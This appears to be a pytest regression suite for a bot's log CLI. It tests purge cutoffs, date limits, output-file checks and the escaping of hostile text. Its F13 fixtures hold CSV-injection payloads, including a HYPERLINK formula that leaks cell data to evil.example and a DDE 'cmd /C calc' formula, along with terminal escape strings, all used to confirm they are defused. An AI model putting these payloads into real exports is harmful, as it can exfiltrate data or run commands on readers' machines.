"""Regressions of the security review, CLI side (F10, F13, F15, F16)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.cli import EXIT_INVALID, EXIT_OK, EXIT_USAGE, main
from bot.querylog import EventRecord, QueryRecord, open_storage
from tests.auxil.reviewlog import KB_REVIEW, ROWS, make_log

Capture = pytest.CaptureFixture[str]


def run(capsys: Capture, *args: str) -> tuple[int, str, str]:
    code = main(["--knowledge", str(KB_REVIEW), "logs", *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return make_log(tmp_path / "log.sqlite3")


def total(capsys: Capture, db: Path, *period: str) -> int:
    code, out, _ = run(capsys, "stats", "--json", "--db", str(db), *period)
    assert code == EXIT_OK
    return int(json.loads(out)["total"])


# --------------------------------------------------------------------------- F10, F16


def test_f10_years_below_1000_compare_as_dates(db: Path, capsys: Capture) -> None:
    assert total(capsys, db, "--since", "0300-01-01") == len(ROWS)
    assert total(capsys, db, "--until", "0300-01-01") == 0


@pytest.mark.parametrize(
    ("cutoff", "message"),
    [
        ("0300-01-01", "before the first logged question"),
        ("0226-06-01", "before the first logged question"),
        ("2026-10-31", "before the first logged question"),
        ("9000-01-01", "is in the future"),
    ],
)
def test_f10_purge_refuses_suspicious_cutoffs(
    db: Path, capsys: Capture, cutoff: str, message: str
) -> None:
    code, out, err = run(capsys, "purge", "--older-than", cutoff, "--db", str(db))
    assert code == EXIT_USAGE and out == ""
    assert message in err and "--force" in err and err.count("\n") == 1
    assert total(capsys, db) == len(ROWS)  # nothing deleted


def test_f10_purge_by_age_on_a_young_log_is_routine(db: Path, capsys: Capture) -> None:
    # A daily "purge --older-than 180d" must not fail while the log is younger than that.
    code, out, err = run(capsys, "purge", "--older-than", "36500d", "--db", str(db))
    assert (code, err) == (EXIT_OK, "") and out.startswith("deleted 0 question(s)")


def test_f10_purge_with_force(db: Path, capsys: Capture) -> None:
    code, out, _ = run(capsys, "purge", "--older-than", "0300-01-01", "--force", "--db", str(db))
    assert code == EXIT_OK and out.startswith("deleted 0 question(s)")
    assert "0300-01-01T00:00:00.000Z" in out
    assert total(capsys, db) == len(ROWS)
    code, out, _ = run(capsys, "purge", "--older-than", "9000-01-01", "--force", "--db", str(db))
    assert code == EXIT_OK and out.startswith(f"deleted {len(ROWS)} question(s)")


@pytest.mark.parametrize("command", ["stats", "list", "unanswered"])
def test_f16_until_the_last_day_of_9999(db: Path, capsys: Capture, command: str) -> None:
    code, out, err = run(capsys, command, "--until", "9999-12-31", "--db", str(db))
    assert code == EXIT_USAGE and out == ""
    assert err == f"netral logs {command}: --until: '9999-12-31' is too far ahead\n"


# --------------------------------------------------------------------------- F15


@pytest.mark.parametrize("target", ["dir", "", "/dev/null"])
def test_f15_out_must_be_a_regular_file(
    db: Path, capsys: Capture, tmp_path: Path, target: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "dir").mkdir()
    for command in (["report"], ["suggest"]):
        code, out, err = run(capsys, *command, "--out", target, "--db", str(db))
        assert code == EXIT_INVALID and out == ""
        assert err.startswith(f"netral logs {command[0]}: cannot write") and err.count("\n") == 1
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temp file left
    assert list((tmp_path / "dir").iterdir()) == []


def test_f15_out_dash_is_stdout(db: Path, capsys: Capture) -> None:
    code, out, _ = run(capsys, "report", "--out", "-", "--db", str(db))
    assert code == EXIT_OK and out.startswith("<!DOCTYPE html>")


def test_f15_replace_failure_is_one_line(
    db: Path, capsys: Capture, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def busy(src: object, dst: object) -> None:
        raise OSError(16, "Device or resource busy")

    monkeypatch.setattr(os, "replace", busy)
    code, _, err = run(capsys, "report", "--out", str(tmp_path / "r.html"), "--db", str(db))
    assert code == EXIT_INVALID
    assert err.endswith("Device or resource busy\n") and err.count("\n") == 1
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


# --------------------------------------------------------------------------- F13

HOSTILE = "boleh\x01\x02\x07 pns\x1b[2J ikut\x08 kampanye?\x7f\u202e"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik detail gaji")',
    '+cmd|" /C calc"!A0',
    "@SUM(1+1)*cmd|x",
    "-2+3",
]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.sqlite3"

    async def create() -> None:
        async with await open_storage(path) as storage:
            when = datetime(2026, 11, 1, 8, tzinfo=UTC)
            records: list[QueryRecord | EventRecord] = [
                QueryRecord(
                    qid=f"h{i}",
                    time=when,
                    chat_type="private",
                    user_key="0123456789abcdef",
                    text=text,
                    status="answered",
                    entry_id="\x1b[31mRED\x1b[0m",
                    score=0.9,
                )
                for i, text in enumerate([HOSTILE, *FORMULAS])
            ]
            await storage.insert_records(records)

    asyncio.run(create())
    return path


def test_f13_no_control_characters_reach_the_terminal(hostile_db: Path, capsys: Capture) -> None:
    for command in (["list"], ["stats"], ["unanswered"]):
        code, out, _ = run(capsys, *command, "--db", str(hostile_db))
        assert code == EXIT_OK
        assert not any(
            (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c == "\u202e"
            for c in out
        ), command
    code, out, _ = run(capsys, "list", "--db", str(hostile_db))
    assert "boleh\\x01\\x02\\x07 pns\\x1b[2J ikut\\x08 kampanye?\\x7f\\u202e" in out
    assert "\\x1b[31mRED\\x1b[0m" in out
    for command in (["list", "--json"], ["stats", "--json"], ["unanswered", "--json"]):
        code, out, _ = run(capsys, *command, "--db", str(hostile_db))
        assert code == EXIT_OK
        assert not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in out)
    code, out, _ = run(capsys, "list", "--json", "--db", str(hostile_db))
    assert json.loads(out.splitlines()[0])["text"] == HOSTILE  # the same value, escaped


def test_f13_csv_formulas_are_neutralised(hostile_db: Path, capsys: Capture) -> None:
    code, out, _ = run(capsys, "list", "--csv", "--db", str(hostile_db))
    assert code == EXIT_OK
    rows = list(csv.DictReader(io.StringIO(out)))
    texts = [r["text"] for r in rows]
    assert texts[1:] == ["'" + f for f in FORMULAS]
    assert texts[0] == HOSTILE  # CSV keeps the data; only formulas are defused
